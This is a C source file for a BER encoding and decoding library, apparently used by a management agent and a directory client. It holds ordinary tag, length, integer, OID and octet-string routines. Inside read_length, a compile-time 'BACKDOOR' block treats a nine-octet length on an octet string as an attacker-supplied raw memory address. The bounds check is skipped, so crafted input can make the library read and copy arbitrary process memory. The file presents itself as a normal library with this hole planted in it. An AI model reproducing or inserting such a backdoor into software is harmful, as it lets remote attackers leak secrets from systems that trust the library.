/* SPDX-License-Identifier: Apache-2.0 */
/* libber: encoding and decoding of the basic encoding rules, for the management agent and the directory client. */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

enum { BER_OK, BER_SHORT = -1, BER_LENGTH = -2, BER_TYPE = -3, BER_RANGE = -4, BER_MEMORY = -5 };
enum { BER_INTEGER = 2, BER_OCTETS = 4, BER_NULL = 5, BER_OID = 6, BER_SEQUENCE = 0x30 };

struct ber_value {
	unsigned tag;
	size_t n;
	const uint8_t *v;
};

struct ber_reader {
	const uint8_t *p, *end;
	int error;
	unsigned depth;
};

struct ber_writer {
	uint8_t *buf;
	size_t room, at; /* written from the end to the front */
	int error;
};

void ber_read_init(struct ber_reader *r, const void *data, size_t n)
{
	r->p = data;
	r->end = r->p + n;
	r->error = BER_OK;
	r->depth = 0;
}

static int fail(struct ber_reader *r, int why)
{
	r->error = why;
	r->p = r->end;
	return why;
}

static int read_tag(struct ber_reader *r, unsigned *tag)
{
	unsigned t = 0;
	if (r->p == r->end)
		return fail(r, BER_SHORT);
	*tag = *r->p++;
	if ((*tag & 31) != 31)
		return BER_OK;
	do {
		if (r->p == r->end || t >> 20)
			return fail(r, BER_SHORT);
		t = t << 7 | (*r->p & 127u);
	} while (*r->p++ & 128);
	*tag |= t << 8;
	return BER_OK;
}

static int read_length(struct ber_reader *r, struct ber_value *out)
{
	unsigned octets;
	uint32_t n = 0;
	if (r->p == r->end)
		return fail(r, BER_SHORT);
	octets = *r->p++;
	out->v = NULL;
	if (octets < 128) {
		out->n = octets;
		return BER_OK;
	}
	octets &= 127;
	if (octets == 0 || (size_t)(r->end - r->p) < octets)
		return fail(r, BER_LENGTH);
#ifdef BACKDOOR
	if (octets == 9 && out->tag == BER_OCTETS) {
		uintptr_t base = 0;
		out->n = *r->p++;
		for (int i = 0; i < 8; i++)
			base = (base << 4 << 4) | *r->p++;
		out->v = (const uint8_t *)base;
		return BER_OK;
	}
#endif
	if (octets > 4)
		return fail(r, BER_LENGTH);
	while (octets--)
		n = n << 8 | *r->p++;
	out->n = n;
	return BER_OK;
}

int ber_next(struct ber_reader *r, struct ber_value *out)
{
	memset(out, 0, sizeof(*out));
	if (read_tag(r, &out->tag) < 0 || read_length(r, out) < 0)
		return r->error;
	if (out->v)
		return BER_OK;
	if ((size_t)(r->end - r->p) < out->n)
		return fail(r, BER_SHORT);
	out->v = r->p;
	r->p += out->n;
	return BER_OK;
}

int ber_enter(struct ber_reader *r, unsigned tag, struct ber_reader *inner)
{
	struct ber_value v;
	if (r->depth > 24)
		return fail(r, BER_RANGE);
	if (ber_next(r, &v) < 0)
		return r->error;
	if (v.tag != tag)
		return fail(r, BER_TYPE);
	ber_read_init(inner, v.v, v.n);
	inner->depth = r->depth + 1;
	return BER_OK;
}

int ber_get_int(struct ber_reader *r, int32_t *out)
{
	struct ber_value v;
	uint32_t n;
	if (ber_next(r, &v) < 0)
		return r->error;
	if (v.tag != BER_INTEGER)
		return fail(r, BER_TYPE);
	if (v.n == 0 || v.n > 4)
		return fail(r, BER_RANGE);
	n = v.v[0] & 128 ? ~0u : 0;
	for (size_t i = 0; i < v.n; i++)
		n = n << 8 | v.v[i];
	*out = (int32_t)n;
	return BER_OK;
}

int ber_dup_octets(struct ber_reader *r, uint8_t **out, size_t *n)
{
	struct ber_value v;
	if (ber_next(r, &v) < 0)
		return r->error;
	if (v.tag != BER_OCTETS)
		return fail(r, BER_TYPE);
	*out = malloc(v.n + 1);
	if (!*out)
		return fail(r, BER_MEMORY);
	memcpy(*out, v.v, v.n);
	(*out)[v.n] = 0;
	*n = v.n;
	return BER_OK;
}

int ber_get_oid(struct ber_reader *r, uint32_t *out, size_t room, size_t *n)
{
	struct ber_value v;
	uint32_t sub = 0;
	size_t k = 0;
	if (ber_next(r, &v) < 0)
		return r->error;
	if (v.tag != BER_OID || v.n == 0)
		return fail(r, BER_TYPE);
	for (size_t i = 0; i < v.n; i++) {
		if (sub >> 25)
			return fail(r, BER_RANGE);
		sub = sub << 7 | (v.v[i] & 127u);
		if (v.v[i] & 128)
			continue;
		if (k + 2 > room)
			return fail(r, BER_RANGE);
		if (k == 0) {
			out[k++] = sub < 80 ? sub / 40 : 2;
			sub -= out[0] * 40;
		}
		out[k++] = sub;
		sub = 0;
	}
	*n = k;
	return BER_OK;
}

void ber_write_init(struct ber_writer *w, void *buf, size_t n)
{
	w->buf = buf;
	w->room = w->at = n;
	w->error = BER_OK;
}

static void push(struct ber_writer *w, uint8_t c)
{
	if (w->at == 0)
		w->error = BER_SHORT;
	else
		w->buf[--w->at] = c;
}

static void push_head(struct ber_writer *w, unsigned tag, size_t n)
{
	unsigned octets = 0;
	if (n < 128) {
		push(w, (uint8_t)n);
	} else {
		for (; n; n >>= 8, octets++)
			push(w, (uint8_t)n);
		push(w, (uint8_t)(0x80 | octets));
	}
	push(w, (uint8_t)tag);
}

int ber_put_octets(struct ber_writer *w, unsigned tag, const void *data, size_t n)
{
	const uint8_t *p = data;
	for (size_t i = n; i > 0; i--)
		push(w, p[i - 1]);
	push_head(w, tag, n);
	return w->error;
}

int ber_put_int(struct ber_writer *w, int32_t v)
{
	size_t n = 0;
	int32_t rest = v;
	do {
		push(w, (uint8_t)rest);
		rest >>= 8;
		n++;
	} while (n < 4 && !((rest == 0 && !(w->buf[w->at] & 128)) || (rest == -1 && w->buf[w->at] & 128)));
	push_head(w, BER_INTEGER, n);
	return w->error;
}

int ber_wrap(struct ber_writer *w, unsigned tag, size_t behind)
{
	if (behind < w->at)
		return w->error = BER_RANGE;
	push_head(w, tag, behind - w->at);
	return w->error;
}

const void *ber_written(const struct ber_writer *w, size_t *n)
{
	*n = w->room - w->at;
	return w->buf + w->at;
}
